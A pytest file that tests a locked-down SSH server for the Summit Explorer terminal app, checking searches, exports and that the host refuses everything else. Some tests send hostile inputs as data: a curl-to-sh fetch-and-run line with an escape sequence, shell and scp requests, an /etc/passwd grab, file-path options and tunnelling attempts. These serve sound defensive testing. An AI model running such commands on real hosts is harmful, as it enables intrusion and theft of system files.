"""The explorer over SSH, with the real client of OpenSSH in real terminals."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.ssh_server import PATIENCE, Server, make_key, served
from tests.terminal.openssh import CLIENT, STARTS, Guest, ssh
from tests.terminal.terminals import Start
from tui.library import shipped_library

ENTER, ESCAPE = "\r", "\x1b"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with served(shipped_library(), tmp_path_factory.mktemp("serve")) as running:
        yield running


def done(command: Sequence[str], **options: Any) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(command, capture_output=True, timeout=60, stdin=subprocess.DEVNULL, check=False, **options)


@pytest.mark.parametrize("start", STARTS.values(), ids=list(STARTS))
def test_a_whole_visit_over_ssh(start: Start, server: Server) -> None:
    with Guest(start, server, 120, 36, "127.0.0.1") as guest:
        guest.sees("1 Summits", "2 Leaders", "3 Agenda topics", "4 Agreements", "q quit")
        guest.type("/")
        guest.sees("⏎ to the lists")
        guest.type("izmir berlusconi")
        guest.sees("2008-11-12", "İzmir", "Silvio Berlusconi", without="2025-04-29")
        guest.type(ENTER)
        guest.sees("narrow")
        guest.type(ENTER)
        guest.sees("❯ summit:", "1 Summits 1", "[1]")
        guest.type(ESCAPE)
        guest.sees("2008-11-12", without="❯ summit:")
        guest.type("q")
        assert guest.ends() == 0
        assert guest.terminal.restored()


@pytest.mark.parametrize("start", STARTS.values(), ids=list(STARTS))
def test_a_command_is_a_query(start: Start, server: Server) -> None:
    with Guest(start, server, 80, 24, "-t", "127.0.0.1", "leader:erdogan izmir") as guest:
        guest.sees("❯ leader:erdogan izmir", "2008-11-12")
        guest.type("q")
        assert guest.ends() == 0


needs_client = pytest.mark.parametrize("client", [CLIENT] if CLIENT else [])


@needs_client
@pytest.mark.parametrize(
    "words",
    [
        ["search", "energy", "--json"],
        ["search", "erdogan", "--limit", "3"],
        ["search", "zzzqqqxx"],
        ["search", "leadr:erdogan"],
        ["show", "recep-tayyip-erdogan", "--json"],
        ["export", "leader:erdogan", "2025", "--to", "csv", "--kind", "agreement"],
        ["export", "izmir", "--to", "markdown"],
        ["check"],
    ],
    ids=" ".join,
)
def test_a_plain_answer_is_what_the_command_prints_on_the_host(client: str, server: Server, words: list[str]) -> None:
    there = done(ssh(server, "127.0.0.1", *words))
    environment = {**os.environ, "SUMMIT_CACHE": str(server.folder / "cache")}
    environment |= {"SUMMIT_LIBRARY": str(shipped_library())}
    environment.pop("COLUMNS", None)
    here = subprocess.run(
        [sys.executable, "-m", "tui", *words], capture_output=True, env=environment, timeout=60, check=False
    )
    assert (there.returncode, there.stdout, there.stderr) == (here.returncode, here.stdout, here.stderr)


@needs_client
def test_what_is_proposed_over_ssh_works_there(client: str, server: Server) -> None:
    unknown = done(ssh(server, "127.0.0.1", "show", "erdogan"))
    assert unknown.returncode == 2
    assert b"`ssh HOST search WORD` prints ids" in unknown.stderr
    helped = done(ssh(server, "127.0.0.1", "export", "--help"))
    assert helped.returncode == 0
    assert b"Usage: ssh HOST export" in helped.stdout
    assert b"--output" not in helped.stdout


@needs_client
def test_a_reader_that_rests_after_an_export_has_come_gets_it_whole(client: str, tmp_path: Path) -> None:
    """`ssh host export | less`: the client holds two megabytes, and loses them when it is disconnected."""
    with served(shipped_library(), tmp_path, "--login-grace", "1") as server:
        asking = subprocess.Popen(ssh(server, "127.0.0.1", "export --to json"), stdout=subprocess.PIPE)
        server.logged("closed", what="left")
        time.sleep(2)
        out, _ = asking.communicate(timeout=PATIENCE)
    assert asking.returncode == 0
    assert json.loads(out)["summits"]


@needs_client
def test_what_is_refused_is_in_the_log(client: str, server: Server) -> None:
    asked = "curl -s http://192.0.2.1/\x1b[2Jx | sh " + "x" * 500
    assert done(ssh(server, "-T", "127.0.0.1", asked)).returncode == 2
    known = server.logged("refused", what="command", name=asked.replace("\x1b", " ")[:200])
    assert not [entry for entry in server.log if entry["event"] == "opened" and entry["session"] == known["session"]]
    for words, what, name in (
        (["-T", "127.0.0.1"], "explorer", "no terminal"),
        (["127.0.0.1", "search secretword --library /etc"], "option", "search --library"),
        (["127.0.0.1", "search 'secretword"], "words", "search"),
        (["-s", "127.0.0.1", "netconf"], "subsystem", "netconf"),
        (["-W", "127.0.0.1:22", "127.0.0.1"], "forwarding", "to 127.0.0.1:22"),
    ):
        assert done(ssh(server, *words)).returncode != 0
        server.logged("refused", what=what, name=name)
    assert "secretword" not in (server.folder / "log").read_text(encoding="utf-8")


@needs_client
@pytest.mark.parametrize(
    "words",
    [["bash"], ["sh", "-c", "id"], ["scp", "-t", "/tmp"], ["serve"], ["completion", "bash"], ["leader:erdogan"]],
    ids=" ".join,
)
def test_nothing_else_is_run(client: str, server: Server, words: list[str]) -> None:
    ended = done(ssh(server, "-T", "127.0.0.1", *words))
    assert ended.returncode == 2
    assert ended.stdout == b""
    assert ended.stderr.startswith(b"summit: this host shows Summit Explorer and runs nothing else\n")


@needs_client
@pytest.mark.parametrize(
    ("words", "term", "said"),
    [
        (["-T"], "xterm", b"summit: the explorer needs a terminal; use: ssh -t HOST\n"),
        (["-tt"], "dumb", "TERM is “dumb”\r\n".encode()),
        (["-tt"], "", "TERM is “”\r\n".encode()),
    ],
    ids=["no terminal", "dumb", "unnamed"],
)
def test_who_has_no_terminal_to_draw_on_is_told_so(
    client: str, server: Server, words: list[str], term: str, said: bytes
) -> None:
    ended = done(ssh(server, *words, "127.0.0.1"), env={**os.environ, "TERM": term, "LC_ALL": "C.UTF-8"})
    assert ended.returncode == 2
    assert said in ended.stdout + ended.stderr
    assert b"ssh HOST search QUERY" in ended.stdout + ended.stderr
    assert b"\x1b" not in ended.stdout


@needs_client
@pytest.mark.parametrize(
    "words",
    [
        ["search", "x", "--library", "/etc"],
        ["search", "x", "--cache=/tmp"],
        ["show", "--library=/etc", "x"],
        ["check", "/etc"],
        ["check", "--", "/etc"],
        ["export", "x", "--to", "csv", "--output", "/tmp/x"],
        ["search", "'unclosed"],
    ],
    ids=" ".join,
)
def test_no_word_of_a_guest_names_a_file(client: str, server: Server, words: list[str]) -> None:
    ended = done(ssh(server, "127.0.0.1", *words))
    assert ended.returncode == 2
    assert ended.stdout == b""
    assert ended.stderr.startswith(b"summit: ")
    assert b"root" not in ended.stderr


@needs_client
def test_a_stranger_is_refused(client: str, server: Server) -> None:
    make_key(server.folder / "stranger")
    ended = done(ssh(server, "127.0.0.1", "search", "energy", key="stranger"))
    assert ended.returncode == 255
    assert b"Permission denied (publickey)" in ended.stderr
    assert ended.stdout == b""


@needs_client
def test_forwarding_is_refused(client: str, server: Server, tmp_path: Path) -> None:
    through = done(ssh(server, "-W", "127.0.0.1:22", "127.0.0.1"))
    assert through.returncode == 255
    assert b"forwarding failed" in through.stderr
    backwards = done(ssh(server, "-o", "ExitOnForwardFailure=yes", "-N", "-R", "0:127.0.0.1:22", "127.0.0.1"))
    assert backwards.returncode == 255
    assert b"remote port forwarding failed" in backwards.stderr
    at_a_socket = done(
        ssh(server, "-o", "ExitOnForwardFailure=yes", "-N", "-R", f"{tmp_path}/s:127.0.0.1:22", "127.0.0.1")
    )
    assert at_a_socket.returncode == 255
    assert list(tmp_path.iterdir()) == []


@contextlib.contextmanager
def forwarder(server: Server, *words: str) -> Iterator[int]:
    """Let `ssh -N` listen on a port of this machine, and yield the port."""
    with socket.socket() as chosen:
        chosen.bind(("127.0.0.1", 0))
        port = chosen.getsockname()[1]
    places = [word.replace("PORT", str(port)) for word in words]
    process = subprocess.Popen(ssh(server, "-N", *places, "127.0.0.1"), stderr=subprocess.DEVNULL)
    try:
        yield port
    finally:
        process.kill()
        process.wait()


def reached(port: int) -> socket.socket:
    """Connect to a port that something is about to listen on."""
    deadline = time.monotonic() + PATIENCE
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        except ConnectionRefusedError:
            assert time.monotonic() < deadline, f"nothing listens on {port}"
            time.sleep(0.02)


@needs_client
@pytest.mark.parametrize("by", ["-L", "-D"])
def test_no_way_leads_through_the_host(client: str, server: Server, by: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as inside:
        target = inside.getsockname()[1]
        words = ["-L", f"127.0.0.1:PORT:127.0.0.1:{target}"] if by == "-L" else ["-D", "127.0.0.1:PORT"]
        with forwarder(server, *words) as port, reached(port) as line:
            if by == "-D":
                line.sendall(b"\5\1\0")
                assert line.recv(2) == b"\5\0"
                line.sendall(b"\5\1\0\1\x7f\0\0\1" + target.to_bytes(2, "big"))
                # OpenSSH says yes before it asks the server; then the line ends.
                line.recv(10)
            with contextlib.suppress(ConnectionResetError):
                assert line.recv(1) == b""
        inside.settimeout(0.1)
        with pytest.raises(TimeoutError):
            inside.accept()


@needs_client
@pytest.mark.parametrize("agent", [program] if (program := shutil.which("ssh-agent")) else [])
def test_neither_agent_nor_display_of_a_visitor_is_reached(
    client: str, agent: str, server: Server, tmp_path: Path
) -> None:
    place = str(tmp_path / "agent")
    environment = {**os.environ, "SSH_AUTH_SOCK": place, "DISPLAY": "127.0.0.1:9"}
    words = ["-A", "-Y", "127.0.0.1", "search", "energy"]
    holder = subprocess.Popen([agent, "-D", "-a", place], stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + PATIENCE
        while not Path(place).exists():
            assert time.monotonic() < deadline, "the agent did not start"
            time.sleep(0.02)
        visit = done(ssh(server, *words, agent=place, level="DEBUG"), env=environment)
    finally:
        holder.kill()
        holder.wait()
    assert visit.returncode == 0
    assert b"nergy" in visit.stdout
    assert b"Requesting authentication agent forwarding" in visit.stderr
    assert b"client_request_agent" not in visit.stderr
    assert b"X11 forwarding request failed" in visit.stderr


@needs_client
def test_sftp_and_scp_are_refused(client: str, server: Server, tmp_path: Path) -> None:
    for program in ("sftp", "scp"):
        if shutil.which(program):
            words = ["127.0.0.1:/etc/passwd", str(tmp_path / "stolen")]
            assert done(ssh(server, *words, program=program)).returncode != 0
    assert list(tmp_path.iterdir()) == []


@needs_client
def test_who_asks_for_it_gets_packed_what_others_get_plain(client: str, server: Server) -> None:
    plain, packed = (
        done(ssh(server, *words, "127.0.0.1", "search", "energy", level="DEBUG")) for words in ([], ["-C"])
    )
    assert plain.returncode == packed.returncode == 0
    assert packed.stdout == plain.stdout
    assert b"server->client cipher: aes" in plain.stderr
    assert b"compression: zlib@openssh.com" in packed.stderr
    assert b"compression: zlib" not in plain.stderr


@needs_client
def test_the_host_is_known_again_after_a_restart(client: str, tiny_library: Path, tmp_path: Path) -> None:
    with served(tiny_library, tmp_path) as first:
        assert done(ssh(first, "127.0.0.1", "search", "energy")).returncode == 0
        fingerprint = first.said.partition("host key")[2].split()[0]
        first.tell(signal.SIGTERM)
        assert first.ends() == 0
    assert fingerprint.startswith("SHA256:")
    assert (tmp_path / "host" / "key").stat().st_mode & 0o777 == 0o600
    with served(tiny_library, tmp_path) as second:
        assert fingerprint in second.said
